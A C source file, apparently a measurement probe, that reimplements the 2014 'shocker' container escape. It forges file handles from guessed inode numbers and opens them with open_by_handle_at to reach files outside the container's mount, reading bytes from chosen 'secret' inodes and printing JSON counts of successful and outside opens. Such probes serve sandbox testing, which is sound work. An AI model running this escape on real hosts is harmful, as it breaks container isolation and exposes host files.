// The classic container escape (shocker.c, 2014): a file system's handles can be guessed, and open_by_handle_at
// opens them wherever they are. Tries '/', given inodes and guesses around its own, bare and with the seal of a
// handle of its own, and prints what came: shocker SHARE GUESSES INODE...
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle {
  unsigned int bytes;
  int type;
  unsigned char data[128];
};

static int mount;
static struct handle own;
static ino_t inside[1024];
static int insides;
static long calls, opened, outside, stale, refused, secret_bytes;

static void know(ino_t inode) {
  if (insides < 1024) inside[insides++] = inode;
}

static void look_around(void) {
  struct stat status;
  fstat(mount, &status);
  know(status.st_ino);
  DIR *directory = fdopendir(dup(mount));
  for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
    if (strcmp(entry->d_name, "..") != 0) know(entry->d_ino);
  closedir(directory);
}

static int is_inside(ino_t inode) {
  for (int index = 0; index < insides; index++)
    if (inside[index] == inode) return 1;
  return 0;
}

// ext4 takes generation 0 for any; where a seal is wanted, one of our own is put behind.
static void try_inode(uint32_t inode, int with_seal, int is_secret) {
  struct handle guess = own;
  uint32_t words[2] = {inode, 0};
  memcpy(guess.data, words, sizeof words);
  if (!with_seal) guess.bytes = 8;
  calls++;
  long fd = syscall(SYS_open_by_handle_at, mount, &guess, O_RDONLY | O_NONBLOCK);
  if (fd < 0) {
    if (errno == ESTALE) stale++;
    else refused++;
    return;
  }
  opened++;
  struct stat status;
  char text[64];
  if (fstat(fd, &status) == 0 && !is_inside(status.st_ino)) outside++;
  if (is_secret) {
    long count = read(fd, text, sizeof text);
    if (count > 0) secret_bytes += count;
  }
  close(fd);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  mount = open(argv[1], O_RDONLY | O_DIRECTORY);
  if (mount < 0) return 3;
  look_around();
  int mount_id;
  own.bytes = 128;
  if (syscall(SYS_name_to_handle_at, mount, "own", &own, &mount_id, 0) < 0) return 4;
  long right = syscall(SYS_open_by_handle_at, mount, &own, O_RDONLY);
  uint32_t own_inode;
  memcpy(&own_inode, own.data, 4);
  long root = 0;
  for (int with_seal = 0; with_seal < 2; with_seal++) {
    try_inode(2, with_seal, 0);
    root = outside;
    for (int index = 3; index < argc; index++) try_inode(strtoul(argv[index], NULL, 10), with_seal, 1);
  }
  long guesses = atol(argv[2]);
  for (long guess = 0; guess < guesses; guess++)
    try_inode(own_inode - guesses / 2 + guess, guess % 2 == 1 && own.bytes > 8, 0);
  printf("{\"handleBytes\":%u,\"right\":%s,\"calls\":%ld,\"opened\":%ld,\"outside\":%ld,\"root\":%ld,"
         "\"secretBytes\":%ld,\"stale\":%ld,\"refused\":%ld}\n",
         own.bytes, right >= 0 ? "true" : "false", calls, opened, outside, root, secret_bytes, stale, refused);
  return 0;
}
